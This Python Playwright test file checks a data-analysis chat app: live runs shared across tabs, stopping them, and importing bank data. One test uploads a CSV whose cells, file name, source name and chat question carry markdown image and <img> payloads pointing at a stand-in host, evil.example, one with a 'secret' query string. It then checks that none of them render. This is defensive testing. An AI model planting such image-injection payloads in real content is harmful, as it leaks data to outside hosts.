"""A live turn in a real browser: every tab draws it, leaving the page does nothing to it, and only Stop ends it."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from lexsi_ds.application import Application
from lexsi_ds.settings import Settings
from tests.browser.conftest import Server, Watched, running
from tests.browser.test_main_job import QUESTION, ask

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
STEP = re.compile(r"^inspect_data\b")


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A server on a home of its own, where the demo bank is ready: no other test can change what is active in it."""
    folder = tmp_path_factory.mktemp("live")
    app = Application(Settings(home=folder / "home"))
    app.catalog.ensure_demo(app.person())
    app.close()
    with running(folder) as made:
        yield made


def begin(server: Server, tab: Watched) -> str:
    """Ask the long question in a new conversation; returns its address once a step is seen."""
    tab.page.goto(f"{server.url}/Chat")
    expect(tab.page.get_by_role("heading", name="New conversation")).to_be_visible(timeout=60_000)
    ask(tab, QUESTION)
    expect(tab.page.get_by_text(STEP).first).to_be_visible(timeout=60_000)
    assert "conversation=conv_" in tab.page.url
    return tab.page.url


def stop_button(page: Page):
    return page.locator('[class*="st-key-chat-stop"] button')


def test_reload_and_second_tab_see_the_same_run_and_stop_ends_it_in_both(
    server: Server, tab: Watched, browser: Browser
) -> None:
    page = tab.page
    address = begin(server, tab)
    page.reload()
    expect(page.get_by_text(STEP).first).to_be_visible()
    second = page.context.new_page()
    second.goto(address)
    expect(second.get_by_text(STEP).first).to_be_visible()
    stop_button(second).first.click()
    for each in (second, page):
        expect(each.get_by_text("You stopped this run.")).to_be_visible()
        expect(each.get_by_role("button", name="Retry")).to_be_visible()
    expect(stop_button(page)).to_have_count(0)


def test_leaving_the_page_lets_the_run_go_on(server: Server, tab: Watched) -> None:
    page = tab.page
    begin(server, tab)
    tab.go("Findings review")
    expect(page.get_by_role("heading", name="Findings review")).to_be_visible()
    tab.go("Chat")
    expect(page.get_by_text("Risk list").first).to_be_visible(timeout=90_000)
    tab.settle()
    chip = page.get_by_test_id("stButtonGroup").get_by_text(re.compile("^Explain loan"))
    question = chip.inner_text()
    chip.click()
    expect(page.get_by_text(re.compile("^Why loan")).first).to_be_visible(timeout=60_000)
    tab.settle()
    newest = page.get_by_test_id("stChatMessage").filter(has_text=question).first
    expect(newest).to_be_in_viewport()
    assert page.get_by_text("Calling train_tabular_model").count() == 0


def test_an_upload_with_hostile_names_loads_nothing(server: Server, tab: Watched) -> None:
    page = tab.page
    page.goto(f"{server.url}/Connect_data")
    expect(page.get_by_role("button", name="Check how they are read")).to_be_visible(timeout=60_000)
    tab.settle()
    body = "id,![x](http://evil.example/?q=secret),<img src=http://evil.example/a.png>\n" + "".join(
        f"{i},![y](http://evil.example/{i}),:red[{i}] $x$\n" for i in range(30)
    )
    name = "![z](http:__evil.example_b.png).csv"
    page.get_by_test_id("stFileUploaderDropzoneInput").set_input_files(
        {"name": name, "mimeType": "text/csv", "buffer": body.encode()}
    )
    page.get_by_role("button", name="Check how they are read").click()
    expect(page.get_by_text("Preview").first).to_be_visible(timeout=60_000)
    tab.settle()
    page.get_by_role("button", name="Go on to name and load").click()
    page.get_by_label("Name of the source").first.fill("![w](http://evil.example/c.png)")
    page.get_by_role("button", name="Load data").click()
    expect(page.get_by_text(re.compile("is loaded and active"))).to_be_visible(timeout=60_000)
    tab.settle()
    page.get_by_role("tab", name="Preview").click()
    expect(page.get_by_text("30 rows", exact=False).first).to_be_visible()
    tab.go("Home")
    expect(page.get_by_text("Try one of these")).to_be_visible()
    tab.settle()
    tab.go("Chat")
    ask(tab, "![q](http://evil.example/d.png) how many rows?")
    expect(page.get_by_test_id("stChatMessage").nth(1)).to_be_visible(timeout=60_000)
    tab.settle()
    assert page.get_by_role("img").evaluate_all("all => all.filter(e => e.src && e.src.includes('evil')).length") == 0


def test_the_real_bank_files_are_imported_from_a_folder(server: Server, tab: Watched, shared_data: Path) -> None:
    page = tab.page
    page.goto(f"{server.url}/Connect_data")
    expect(page.get_by_text("Folder of this machine")).to_be_visible(timeout=60_000)
    page.get_by_role("textbox", name="Path of a folder").fill(str(shared_data / "berka"))
    page.get_by_role("textbox", name="Path of a folder").press("Enter")
    page.get_by_role("button", name="Check how it is read").click()
    page.get_by_role("button", name="Go on to name and load").click(timeout=60_000)
    page.get_by_role("button", name="Load data").click()
    expect(page.get_by_text(re.compile("is loaded and active"))).to_be_visible(timeout=90_000)
    tab.settle()
    expect(page.get_by_text("682 rows, 7 columns")).to_be_visible()
